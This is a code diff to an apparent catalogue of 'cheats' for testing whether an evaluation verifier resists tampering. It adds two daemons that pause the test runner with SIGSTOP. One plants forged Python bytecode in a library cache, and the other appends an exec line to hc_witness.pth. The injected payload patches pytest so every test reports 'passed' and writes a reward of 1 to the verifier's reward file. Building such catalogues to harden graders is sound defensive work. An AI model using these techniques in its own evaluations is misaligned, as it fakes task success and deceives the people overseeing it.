@@ -177,6 +177,56 @@ while True:
     time.sleep(0.02)
 """
 
+_WHILE_STOPPED = """
+FORGES = '''
+import posix, sys
+def forge(event, given):
+    reports = sys.modules.get("_pytest.reports")
+    true = getattr(getattr(reports, "TestReport", None), "from_item_and_call", None)
+    if event == "import" and true is not None and not hasattr(reports, "forged"):
+        def forged(cls, item, call):
+            report = true.__func__(cls, item, call)
+            report.outcome = "passed"
+            return report
+        reports.forged, reports.TestReport.from_item_and_call = True, classmethod(forged)
+sys.addaudithook(forge)
+try:
+    posix.write(posix.open("/logs/verifier/reward.json", posix.O_WRONLY | posix.O_CREAT), b'{"reward": 1}')
+except OSError:
+    pass
+'''
+def while_stopped(act):
+    tested = 0
+    while not tested:
+        for number in map(int, filter(str.isdigit, os.listdir("/proc"))):
+            line = tried(lambda: open("/proc/%d/cmdline" % number, "rb").read()) or b""
+            tested = number if line.endswith(b"\\0/tests/test.sh\\0") else tested
+    tried(os.kill, tested, signal.SIGSTOP)
+    act()
+    tried(os.kill, tested, signal.SIGCONT)
+"""
+_BYTE_CODE = """
+import encodings.utf_8, importlib.util, marshal
+source, kept = encodings.utf_8.__file__, importlib.util.cache_from_source(encodings.utf_8.__file__)
+code = marshal.dumps(compile(open(source).read() + FORGES, source, "exec"))
+never_compared_with_its_source = (1).to_bytes(4, "little") + bytes(8)
+write(kept + ".new", "")  # folders that overlayfs has to copy first would be seen
+os.unlink(kept + ".new")
+def act():
+    with open(kept + ".new", "wb") as file:
+        file.write(importlib.util.MAGIC_NUMBER + never_compared_with_its_source + code)
+    os.replace(kept + ".new", kept)
+while_stopped(act)
+"""
+_WAY_IN = """
+import glob
+def act():
+    for path in glob.glob("/usr/**/hc_witness.pth", recursive=True) + glob.glob("/root/.local/**/hc_witness.pth"):
+        with open(path, "a") as file:
+            file.write("import sys; exec(%r)\\n" % FORGES)
+while_stopped(act)
+"""
+
 
 def _lives(name: str, does: str, script: str) -> Cheat:
     return Cheat(name, does, script=script, foreign={IMPORTS: FAILS, SHELL: FAILS}, living=True)
@@ -194,6 +244,10 @@ CHEATS = (
            "export PAUSE=0.1\n" + _daemon(_FOR_A_MOMENT)),
     _lives("a tracer of the tests", "ptrace, memory, files and root of every process; the witness's socket taken",
            _daemon(_TRACES)),
+    _lives("byte code replaced while tested", "a daemon writes forged byte code beside a module of the library",
+           _daemon(_WHILE_STOPPED + _BYTE_CODE)),
+    _lives("the witness's way in rewritten while tested", "a daemon adds a line to hc_witness.pth",
+           _daemon(_WHILE_STOPPED + _WAY_IN)),
     _lives("the verifier killed by root", "a daemon writes the reward and kills every other process", _daemon(_KILLS)),
     _lives("the verifier stopped by root", "a daemon writes the reward and stops and ends every other process",
            _daemon(_STOPS)),
